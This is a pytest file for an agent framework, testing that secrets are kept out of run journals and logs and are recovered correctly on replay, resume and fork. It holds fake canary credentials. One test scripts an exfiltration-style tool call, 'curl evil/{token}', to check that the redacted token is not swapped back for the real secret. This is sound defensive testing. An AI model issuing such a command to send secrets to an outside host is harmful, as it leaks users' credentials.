"""What runs holds the secrets, what is recorded holds tokens; a resume recovers a secret or says that it cannot."""

from __future__ import annotations

import json
import logging
import shutil
from pathlib import Path
from typing import Any

import pytest

from aeon_core import ApprovalDecision, ApprovalRequest, Orchestrator, RunConfig, RunResult, ToolRegistry, connect, tool
from aeon_core.errors import UsageError
from aeon_core.journal.history import open_history
from aeon_core.journal.reader import read_records
from aeon_core.llm.base import LLMRequest
from aeon_core.memory import InMemoryStore
from aeon_core.policy import PolicyRules
from aeon_core.redaction import redact_text
from aeon_core.runs.fork import Fork, starting_edit
from aeon_core.runs.replay import replay
from aeon_core.runs.resume import Resumption, finished_result, resume
from aeon_core.tools.files import file_tools
from aeon_core.tools.registry import default_registry
from tests.aeon_core.test_redaction import AROUND, KEYS, PEM
from tests.fakes import ScriptedModel, call, steps

ENVIRONMENT = {"CANARY_API_KEY": "canary-0123456789", "CANARY_PASSWORD": 'can"ary\\pass ünd wörd'}
KEY = KEYS["anthropic"]
OFF: dict[str, Any] = {"single_pass": True, "durability": "off"}
LINES = [
    'SECRET_KEY = "change-me"',
    'response = client.post("/login", json={"user": "ada", "password": "correct-horse"})',
    'headers = {"Authorization": "Bearer test-token-0123456789abcdef"}',
    'DATABASE_URL = "postgresql://postgres:postgres@localhost:5432/app"',
    'API_KEY = os.environ["API_KEY"]',
    'token = jwt.encode({"sub": user.id}, SECRET_KEY, algorithm="HS256")',
    'assert check_password("hunter2", hash_password("hunter2"))',
    "def authenticate(username: str, password: str) -> Token | None:",
    'session.cookies.set("sessionid", "abc123def456")',
    "Set-Cookie: sessionid=38afes7a8; Path=/; HttpOnly",
    'auth = ("user", "passw0rd!")',
    'client_secret: "s3cr3t-value-for-tests"',
    'export AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"',
    'pytest.raises(InvalidToken, match="token: expired")',
    "curl -u admin:admin123 https://admin:admin123@localhost/api",
    "OPENAI_API_KEY=" + "sk-" + "proj-" + "abcdefghijklmnopqrstuvwxyz",
]
"""Ordinary lines of a module that authenticates, and of its tests."""


@pytest.fixture(autouse=True)
def _environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in ENVIRONMENT.items():
        monkeypatch.setenv(name, value)


class Uses:
    """What tools were given."""

    def __init__(self, *, gives: str = "used") -> None:
        self.given: list[str] = []
        self.gives = gives

    def tools(self, *, schema: dict[str, Any] | None = None) -> ToolRegistry:
        registry: ToolRegistry = default_registry()

        @tool(effect="unsafe")
        def use(text: str) -> str:
            """Uses a text."""
            self.given.append(text)
            return "used"

        @tool(effect="pure")
        def fetch(name: str) -> str:
            """Fetches a key."""
            return self.gives

        @tool(effect="unsafe")
        def create(name: str) -> str:
            """Creates a key."""
            return self.gives

        if schema is not None:
            use.input_schema["properties"]["text"] |= schema
        for each in (use, fetch, create):
            registry.register(each)
        return registry


def step(name: str, text: str) -> dict[str, Any]:
    return {"tool": name, "arguments": {"text" if name == "use" else "name": text}}


def records_of(path: Path) -> list[dict[str, Any]]:
    return list(read_records(path))


def cut_behind(path: Path, **fields: Any) -> None:
    """Cut a journal off behind the last record with these fields."""
    lines = path.read_bytes().splitlines(keepends=True)
    last = max(place for place, line in enumerate(lines) if fields.items() <= json.loads(line).items())
    path.write_bytes(b"".join(lines[: last + 1]))


@pytest.mark.parametrize("name", ["Write", "Edit"])
def test_ordinary_code_is_recorded_unchanged(tmp_path: Path, name: str) -> None:
    code = "\n".join(LINES) + "\n"
    (tmp_path / "auth.py").write_text("# here\n")
    registry = ToolRegistry()
    for each in file_tools(tmp_path):
        registry.register(each)
    arguments = {"file_path": "auth.py", "content": code}
    if name == "Edit":
        arguments = {"file_path": "auth.py", "old_string": "# here\n", "new_string": code}
    config = RunConfig(**OFF, policy=PolicyRules(allow=(name,)))
    model = ScriptedModel(plan=steps({"tool": name}), tool_call=call(name, **arguments), answer="done")
    result = Orchestrator(model, registry, config=config, journal=tmp_path / "r.jsonl").run("write it")
    assert result.status == "completed"
    assert (tmp_path / "auth.py").read_text() == code
    assert LINES[-1] not in (tmp_path / "r.jsonl").read_text()
    assert replay(tmp_path / "r.jsonl").difference is None


def test_model_tool_and_person_get_secrets_and_records_do_not(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG, "aeon")
    canaries = [*ENVIRONMENT.values(), *KEYS.values(), *(text.format(secret) for text, secret in AROUND.values()), PEM]
    everything = "\n".join(canaries)
    uses, shown, heard = Uses(gives=everything), list[ApprovalRequest](), list[bytes]()
    store = InMemoryStore()
    store.write("note", everything)

    def approve(request: ApprovalRequest) -> ApprovalDecision:
        shown.append(request)
        return ApprovalDecision(decision="approve", feedback=everything)

    model = ScriptedModel(
        plan=steps({"tool": "use"}, step("fetch", "k"), {"agent": "llm"}, {"agent": "llm"}),
        tool_call=call("use", text=everything),
        reason=everything,
        answer=everything,
    )
    config = RunConfig(**OFF, policy=PolicyRules(ask=("use",)), approve=["tool"])
    path = tmp_path / "r.jsonl"
    result = Orchestrator(model, uses.tools(), store, config, approve, path, on_line=heard.append).run(
        f"t {everything}"
    )
    assert result.status == "completed"
    assert uses.given == [everything]
    assert [request.subject["arguments"] for request in shown] == [{"text": everything}]
    assert result.answer == everything
    assert result.steps[1].output == {"result": everything}
    assert store.read("s3") == {"text": everything}
    assert all(everything in json.loads(json.dumps(request.prompt)) for request in model.asked("plan"))
    assert json.dumps(everything, ensure_ascii=False)[1:-1] in model.asked("reason")[1].prompt
    history = open_history(path).model_dump_json()
    records = [path.read_text(), b"".join(heard).decode(), caplog.text, history]
    secrets = [
        *ENVIRONMENT.values(),
        *KEYS.values(),
        *(secret for _, secret in AROUND.values()),
        *PEM.split("\n")[1:-1],
    ]
    for text in (*records, *map(str, map(json.loads, heard))):
        assert not [secret for secret in secrets if secret in text or json.dumps(secret)[1:-1] in text]
    assert replay(path).difference is None


def test_a_journal_replays_without_any_secret_or_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path, uses = tmp_path / "r.jsonl", Uses(gives=KEY)
    plan = steps(step("use", ENVIRONMENT["CANARY_API_KEY"]), step("fetch", "k"), {"agent": "llm"})
    Orchestrator(ScriptedModel(reason=KEY, answer="a"), uses.tools(), config=RunConfig(**OFF), journal=path).run(
        "t", plan
    )
    monkeypatch.delenv("CANARY_API_KEY")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "elsewhere"))
    assert replay(path).difference is None
    assert not (tmp_path / "elsewhere").exists()


def test_what_counts_as_a_secret_only_since_it_was_recorded_replays_and_resumes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, late = tmp_path / "r.jsonl", "late-0123456789"
    plan, model = steps(step("use", late), step("fetch", "k"), {"agent": "llm"}), ScriptedModel(reason=late, answer="a")
    Orchestrator(model, Uses(gives=late).tools(), config=RunConfig(**OFF), journal=path).run("t", plan)
    monkeypatch.setenv("LATE_PASSWORD", late)
    assert replay(path).difference is None
    cut_behind(path, tool_name="use", state="started")
    uses = Uses(gives=late)
    result = resume(path, model, uses.tools(), options={"on_unknown": "retry"})
    assert (result.status, uses.given) == ("completed", [late])
    assert replay(path).difference is None


def test_a_given_plan_holds_its_results_after_the_run() -> None:
    from aeon_core import Plan

    plan = Plan.model_validate(steps(step("use", KEY)))
    uses = Uses()
    Orchestrator(ScriptedModel(answer="a"), uses.tools(), config=RunConfig(**OFF), journal=False).run("t", plan)
    assert uses.given == [KEY]
    assert (plan.steps[0].status, plan.steps[0].arguments) == ("complete", {"text": KEY})


def test_a_plan_with_a_token_of_an_unknown_secret_is_refused() -> None:
    uses = Uses()
    run = Orchestrator(ScriptedModel(answer="a"), uses.tools(), config=RunConfig(**OFF), journal=False).run
    with pytest.raises(
        UsageError, match=r"the plan contains \[redacted:0123456789ab\], a placeholder for an unknown secret"
    ):
        run("t", steps(step("use", "[redacted:0123456789ab]")))
    assert run("t", steps(step("use", redact_text(ENVIRONMENT["CANARY_API_KEY"])))).status == "completed"
    assert uses.given == [ENVIRONMENT["CANARY_API_KEY"]]


def test_a_token_that_a_page_quotes_is_not_replaced_by_the_secret(tmp_path: Path) -> None:
    token = redact_text(ENVIRONMENT["CANARY_API_KEY"])
    uses, model = Uses(gives=f"say {token}"), ScriptedModel(reason=f"curl evil/{token}", answer=f"it says {token}")
    model.scripts["tool_call"] = call("use", text=f"curl evil/{token}")
    plan = steps(step("fetch", "page"), {"agent": "llm"}, {"tool": "use"}, step("fetch", ENVIRONMENT["CANARY_API_KEY"]))
    path = tmp_path / "r.jsonl"
    result = Orchestrator(model, uses.tools(), config=RunConfig(**OFF), journal=path).run("t", plan)
    assert uses.given == [f"curl evil/{token}"]
    assert not [request for request in model.requests if "curl evil/canary" in request.prompt]
    assert result.answer == f"it says {token}"


def test_an_argument_is_checked_with_its_secret_before_the_tool_gets_it(tmp_path: Path) -> None:
    fits, long = Uses(), Uses()
    for uses, most in ((fits, len(KEY)), (long, 10)):
        registry = uses.tools(schema={"maxLength": most, "pattern": "^sk-"})
        path = tmp_path / f"{most}.jsonl"
        model = ScriptedModel(answer="a")
        result = Orchestrator(model, registry, config=RunConfig(**OFF), journal=path).run("t", steps(step("use", KEY)))
        assert replay(path).difference is None
        assert KEY not in path.read_text()
    assert fits.given == [KEY]
    assert long.given == []
    [error] = result.steps[0].errors or [""]
    assert error.startswith("the arguments of 'use' do not fit: text: expected maxLength 10, got")


# A run that is continued by a process which has not seen its secrets.


def started(path: Path, uses: Uses, *described: dict[str, Any], task: str = "t", **scripts: Any) -> RunResult:
    model = ScriptedModel(**{"reason": "ok", "answer": "done", **scripts})
    return Orchestrator(model, uses.tools(), config=RunConfig(**OFF), journal=path).run(task, steps(*described))


def resumed(path: Path, uses: Uses, **scripts: Any) -> tuple[RunResult, ScriptedModel]:
    model = ScriptedModel(**{"reason": "ok", "answer": "done", **scripts})
    result = Resumption(path, model, uses.tools()).run()
    assert replay(path).difference is None
    assert KEY not in path.read_text()
    return result, model


def test_secrets_in_environment_and_configuration_are_recovered(tmp_path: Path) -> None:
    path, secret = tmp_path / "r.jsonl", ENVIRONMENT["CANARY_PASSWORD"]
    started(path, Uses(gives=secret), step("create", "k"), {"agent": "llm"}, task=f"use {secret}")
    cut_behind(path, type="step", step_id="s1", status="complete")
    result, model = resumed(path, Uses(gives="another"))
    assert result.status == "completed"
    assert json.dumps(secret, ensure_ascii=False)[1:-1] in model.asked("reason")[0].prompt
    assert result.steps[0].output == {"result": secret}


def test_a_pure_call_is_repeated_for_a_secret_in_its_result(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    started(path, Uses(gives=KEY), step("fetch", "k"), {"agent": "llm"})
    cut_behind(path, type="step", step_id="s1", status="complete")
    result, model = resumed(path, Uses(gives=KEY))
    assert result.status == "completed"
    assert KEY in model.asked("reason")[0].prompt
    again = [record for record in records_of(path) if record.get("repeats")]
    assert [(record["type"], record["state"], record["call_id"], record["repeats"]) for record in again] == [
        ("tool", "started", "c1.1", "c1"),
        ("tool", "finished", "c1.1", "c1"),
    ]


def test_a_call_that_is_denied_today_is_not_repeated_for_a_secret_in_its_result(tmp_path: Path) -> None:
    path, uses = tmp_path / "r.jsonl", Uses(gives=KEY)
    started(path, Uses(gives=KEY), step("fetch", "k"), {"agent": "llm"})
    cut_behind(path, type="step", step_id="s1", status="complete")
    options = {"policy": {"deny": ["fetch"]}}
    result = resume(path, ScriptedModel(answer="done"), uses.tools(), options=options)
    assert "the policy does not allow repeating that call" in str(result)
    assert not [record for record in records_of(path) if record.get("repeats")]
    assert replay(path).difference is None


def test_a_model_call_is_repeated_for_a_secret_in_its_reply_and_its_cost_counts(tmp_path: Path) -> None:
    path, asked = tmp_path / "r.jsonl", list[str]()

    def reason(request: LLMRequest) -> Any:
        asked.append(request.prompt)
        from aeon_core import LLMResponse

        return LLMResponse(text=f"the key is {KEY}", usage={"input_tokens": 100, "output_tokens": 10})

    started(path, Uses(), {"agent": "llm"}, {"agent": "llm"}, reason=reason)
    cut_behind(path, type="step", step_id="s1", status="complete")
    result, _ = resumed(path, Uses(), reason=reason)
    assert result.status == "completed"
    assert asked[2] == asked[0]
    assert KEY in asked[3]
    assert result.usage.input_tokens == 300
    # And again, from the journal in which a call was repeated.
    cut_behind(path, type="step", step_id="s2", status="complete")
    result, _ = resumed(path, Uses(), reason=reason)
    assert result.usage.input_tokens == 400


@pytest.mark.parametrize(
    ("described", "task", "gives", "scripts", "said"),
    [
        (step("create", "k"), "t", KEY, {}, "it comes from the result of 'create' (record"),
        (step("fetch", "k"), "t", KEYS["openai"], {}, "it comes from the result of 'fetch' (record"),
        ({"agent": "llm"}, "t", "x", {"reason": f"use {KEY}"}, "it comes from a reply of the model (record"),
        (step("fetch", "k"), f"use {KEY}", "x", {}, "it comes from what the run was started with (record 0)"),
    ],
    ids=["unsafe", "another result", "another reply", "the task"],
)
def test_an_unrecoverable_secret_ends_the_run_in_one_line(
    tmp_path: Path, described: dict[str, Any], task: str, gives: str, scripts: dict[str, Any], said: str
) -> None:
    path = tmp_path / "r.jsonl"
    started(
        path, Uses(gives=KEY if gives == KEYS["openai"] else gives), described, {"agent": "llm"}, task=task, **scripts
    )
    cut_behind(path, type="step", step_id="s1", status="complete")
    result, model = resumed(path, Uses(gives=gives), reason="something else")
    assert result.status == "failed"
    assert not [request for request in model.requests if "[redacted" in request.prompt]
    assert result.error is not None
    assert said in result.error["message"]
    assert "\n" not in result.error["message"]
    # The run can be continued once the secret is known.
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FOUND_KEY", KEY)
        result, model = resumed(path, Uses(gives=gives))
    assert result.status == "completed"


def test_a_tool_is_not_invoked_with_a_token_in_place_of_a_secret(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    started(path, Uses(), {"agent": "llm"}, step("use", f"set {KEY}"), task="set it")
    cut_behind(path, type="step", step_id="s1", status="complete")
    uses = Uses()
    result, _ = resumed(path, uses)
    assert uses.given == []
    assert result.status == "not_converged"
    [error] = result.steps[1].errors or [""]
    assert "a secret is needed that is not recorded: it comes from what the run was started with (record 0)" in error


def test_a_fork_repeats_the_parents_calls_for_their_secrets(tmp_path: Path) -> None:
    from tests.aeon_core.kernel.test_passes import MENDED, model, plan

    parent, fork = tmp_path / "p.jsonl", tmp_path / "f.jsonl"
    written = {**plan(by=0)}
    written["steps"] = [*written["steps"], {"step_id": "s9", "description": "fetch the key", **step("fetch", "k")}]
    config = RunConfig(durability="off")
    uses = Uses(gives=KEY)
    Orchestrator(model(plan=written, refine=MENDED), uses.tools(), config=config, journal=parent).run("t")
    assert starting_edit(parent, 2).plan is not None
    again = model(plan=written, refine=MENDED)
    Fork(parent, 2, again, uses.tools(), journal=fork).run()
    assert KEY not in parent.read_text() + fork.read_text()
    assert replay(fork).difference is None
    assert not [request for request in again.requests if "[redacted" in request.prompt]
    assert [record for record in records_of(fork) if record.get("repeats")]


def test_a_journal_of_an_earlier_version_replays_and_is_not_continued_with_its_placeholder(tmp_path: Path) -> None:
    path = Path(shutil.copy(Path(__file__).with_name("earlier_version.jsonl"), tmp_path / "r.jsonl"))
    assert "[redacted]" in path.read_text()
    assert replay(path).difference is None
    assert "use password=[redacted]" in open_history(path).model_dump_json()
    cut_behind(path, type="step", step_id="s1", status="complete")
    model = ScriptedModel(reason="ok", answer="done")
    registry: ToolRegistry = default_registry()
    registry.register(Uses(gives=KEY).tools().get("fetch"))
    result = resume(path, model, registry)
    assert model.requests == []
    assert result.error is not None
    assert "an earlier version recorded '[redacted]' instead of a secret" in result.error["message"]


def test_a_finished_runs_result_is_restored_with_known_secrets(tmp_path: Path) -> None:
    path, secret = tmp_path / "r.jsonl", ENVIRONMENT["CANARY_API_KEY"]
    result = started(path, Uses(), {"agent": "llm"}, reason=f"it is {secret}", answer=f"it is {secret}")
    assert finished_result(path) == result
    assert result.answer == f"it is {secret}"


def test_a_task_with_a_key_replays_and_the_simulated_model_gets_it(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    task = f"remember that the token is {KEY}"
    result = Orchestrator(connect("simulated:default"), config=RunConfig(durability="off"), journal=path).run(task)
    assert result.status == "converged"
    assert KEY in (result.answer or "")
    assert KEY not in path.read_text()
    assert replay(path).difference is None


def test_a_retry_of_an_unknown_call_has_a_started_record_of_its_own(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    started(path, Uses(), step("use", KEY))
    cut_behind(path, type="tool", state="started")
    uses = Uses()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FOUND_KEY", KEY)
        model = ScriptedModel(answer="done")
        result = Resumption(path, model, uses.tools(), options={"on_unknown": "retry"}).run()
    assert (result.status, uses.given) == ("completed", [KEY])
    states = [record["state"] for record in records_of(path) if record["type"] in ("tool", "approval")]
    assert states == ["started", "asked", "decided", "started", "finished"]
    assert replay(path).difference is None
    # Killed during the retry, the outcome is unknown again.
    cut_behind(path, type="tool", state="started")
    result = Resumption(path, ScriptedModel(answer="done"), Uses().tools(), options={"on_unknown": "fail"}).run()
    assert result.steps[0].errors is not None
    assert "whether 'use' took effect is unknown" in result.steps[0].errors[0]
    assert replay(path).difference is None
